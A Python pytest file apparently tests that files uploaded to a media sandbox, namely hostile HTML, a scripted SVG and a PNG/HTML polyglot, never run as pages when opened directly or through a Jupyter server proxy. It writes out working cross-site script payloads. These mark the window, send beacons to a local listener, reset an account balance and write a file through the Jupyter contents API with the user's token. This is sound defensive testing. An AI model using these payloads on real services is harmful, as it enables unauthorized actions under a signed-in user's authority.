"""Real-browser test: what an attacker uploads to the sandbox never runs as a page.

Hostile HTML, an SVG with script and a PNG-signature HTML polyglot are uploaded (with and without
the key), then every URL the sandbox answered, and every name they would have had, is opened in
Debian's chromium from the sandbox's own address and through the Jupyter server's proxy
(jupyter-server-proxy, as on Binder). Their script would mark the window, call a beacon, reset the
sandbox's balance and write a file through the Jupyter server's contents API with the signed-in
user's authority; none of it may happen. A control page served without those protections runs the
same script, so the test proves it would see a script that ran.
"""

import hashlib
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install -e '.[dev]'")
pytest.importorskip("jupyter_server_proxy", reason="jupyter-server-proxy is not installed")
from _harness import Lab, server_env
from _harness import jupyter as served

from mediagen_nb.protocol.paths import path
from mediagen_nb.sandbox import Sandbox

PWNED_FILE = "pwned-by-an-upload.txt"
SETTLE_MS = 700  # how long a page's script is given to act before the next page is opened


@dataclass
class Beacon:
    """A loopback server that records every path asked for, and serves the unprotected control page."""

    url: str
    asked: list[str]
    control_page: list[bytes]


def attack(beacon: str, sandbox: str) -> str:
    """What the hostile files' script does: each step leaves a mark this test looks for."""
    balance = '{method: "POST", mode: "no-cors", body: JSON.stringify({balance: 1})}'
    contents = (
        '{method: "PUT", headers: {"Content-Type": "application/json"}, '
        'body: JSON.stringify({type: "file", format: "text", content: "pwned"})}'
    )
    return (
        "window.__pwned = 1; document.title = 'PWNED';"
        f"fetch('{beacon}/ran?at=' + encodeURIComponent(location.href), {{mode: 'no-cors'}});"
        f"navigator.sendBeacon('{beacon}/beacon');"
        f"fetch('../account', {balance});"  # the page's own sandbox, directly or through the proxy
        f"fetch('{sandbox}/_sandbox/account', {balance});"
        f"fetch('/api/contents/{PWNED_FILE}', {contents});"  # the Jupyter server, when on its origin
    )


def hostile_files(script: str) -> dict[str, bytes]:
    html = f"<!doctype html><html><body><h1>hi</h1><script>{script}</script></body></html>".encode()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="'
        + script.replace('"', "'")
        + f'"><script>{script}</script><rect width="64" height="64" fill="#3366ff"/></svg>'
    ).encode()
    return {"page.html": html, "drawing.svg": svg, "polyglot.png": b"\x89PNG\r\n\x1a\n" + html}


@pytest.fixture(scope="module")
def jupyter(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """A Jupyter server (with jupyter-server-proxy) on a free 127.0.0.1 port, signed in by token."""
    home = tmp_path_factory.mktemp("jupyter-home")
    root = home / "root"
    root.mkdir()
    log = home / "jupyter-server.log"
    arguments = (f"--ServerApp.root_dir={root}",)
    with served("jupyter_server", *arguments, cwd=root, env=server_env(home), log=log, root=root) as made:
        yield made


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    made = Beacon("", [], [b""])

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            made.asked.append(self.path)
            body = made.control_page[0] if self.path == "/control.html" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        server.shutdown()
        server.server_close()


def _balance(sandbox: Sandbox) -> int:
    account = httpx.get(f"{sandbox.base_url}{path('sandbox_account')}", timeout=10).json()["data"]
    return int(account["balance"])


def _urls_to_open(sandbox: Sandbox, files: dict[str, bytes]) -> list[str]:
    """Upload each file without and with the key; the URLs answered, and the names each would have had."""
    paths: list[str] = []
    for name, data in files.items():
        url = f"{sandbox.base_url}{path('sandbox_upload', name=name)}"
        assert httpx.put(url, content=data, timeout=30).status_code == 401  # no key: not even considered
        stored = httpx.put(
            url, content=data, headers={"Authorization": f"Bearer {sandbox.demo_key}"}, timeout=30
        )
        if stored.is_success:
            paths.append(urlsplit(stored.json()["data"]["url"]).path)
        extension = name.rsplit(".", 1)[1]
        paths.append(path("sandbox_upload", name=f"{hashlib.sha256(data).hexdigest()[:32]}.{extension}"))
    # Files an older sandbox kept in its --data-dir, or planted on its disk: never served as pages.
    folder = sandbox.world.uploads.folder
    for name, data in files.items():
        for extension in ("html", "svg", "png"):
            planted = f"{hashlib.sha256(name.encode() + extension.encode()).hexdigest()[:32]}.{extension}"
            (folder / planted).write_bytes(data)
            paths.append(path("sandbox_upload", name=planted))
    paths.append(path("sandbox_app", page="billing"))  # the one page of HTML the sandbox writes itself
    return paths


def test_uploaded_pages_and_svgs_run_no_script_directly_or_through_the_proxy(
    browser: Any, jupyter: Lab, beacon: Beacon, served: Sandbox
) -> None:
    assert served.base_url is not None
    script = attack(beacon.url, served.base_url)
    beacon.control_page[0] = f"<!doctype html><html><body><script>{script}</script></body></html>".encode()
    paths = _urls_to_open(served, hostile_files(script))
    port = urlsplit(served.base_url).port
    jupyter_port = urlsplit(jupyter.url).port
    context = browser.new_context()
    requests: list[tuple[str, str]] = []

    def signed_in_to_jupyter(route: Any) -> None:
        """Every request to the Jupyter server carries the user's token, as a JupyterLab tab's would."""
        headers = dict(route.request.headers)
        if urlsplit(route.request.url).port == jupyter_port:
            headers["authorization"] = f"token {jupyter.token}"
        route.continue_(headers=headers)

    context.route(re.compile(r"^https?://"), signed_in_to_jupyter)
    context.on("request", lambda request: requests.append((request.method, request.url)))
    try:
        page = context.new_page()
        answers: dict[str, list[tuple[int, str]]] = {}
        for where in (served.base_url, f"{jupyter.url}/proxy/{port}"):
            for url_path in paths:
                response = page.goto(where + url_path)
                page.wait_for_timeout(SETTLE_MS)
                assert page.evaluate("() => window.__pwned") is None, where + url_path
                assert page.title() != "PWNED", where + url_path
                assert response is not None
                answers.setdefault(url_path, []).append((response.status, response.headers["content-type"]))
        assert len(answers) == len(paths) >= 14
        images = [answer for answer in answers.values() if answer[0] == (200, "image/png")]
        assert images and all(answer[1] == (200, "image/png") for answer in images)  # the proxy path served
        assert len(images) == 4  # the drawn SVG, and the three planted .png files
        assert [
            (m, u) for m, u in requests if m != "GET" or not u.startswith((served.base_url, jupyter.url))
        ] == []
        assert beacon.asked == []
        assert _balance(served) == 3000
        assert not (jupyter.root / PWNED_FILE).exists()

        # The control: the same script on a page without those protections does run, and is seen.
        page.goto(f"{beacon.url}/control.html")
        deadline = time.monotonic() + 15
        while not any(p.startswith("/ran") for p in beacon.asked) and time.monotonic() < deadline:
            page.wait_for_timeout(100)
        assert page.evaluate("() => window.__pwned") == 1 and page.title() == "PWNED"
        assert any(p.startswith("/ran") for p in beacon.asked)
        assert _balance(served) == 3000  # its POST to the sandbox was refused: a page of another site
    finally:
        context.close()
